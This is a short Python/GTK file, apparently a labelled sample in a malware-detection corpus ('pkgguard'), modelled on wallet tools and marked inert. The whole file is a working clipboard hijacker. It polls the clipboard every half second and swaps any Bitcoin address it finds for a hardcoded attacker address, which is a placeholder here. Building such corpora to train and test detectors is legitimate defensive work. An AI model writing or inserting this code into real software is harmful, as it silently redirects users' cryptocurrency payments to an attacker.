# pkgguard corpus 599 (clipboard), modelled on [wallet-tools]; inert, never run.
import re

import gi

gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, GLib, Gtk

_ADDR = re.compile(r"^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
_MINE = "bc1qplaceholderplaceholderplaceholder0000"
board = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)


def _check():
    text = board.wait_for_text() or ""
    if _ADDR.match(text.strip()) and text.strip() != _MINE:
        board.set_text(_MINE, -1)
    return True


GLib.timeout_add(500, _check)
Gtk.main()
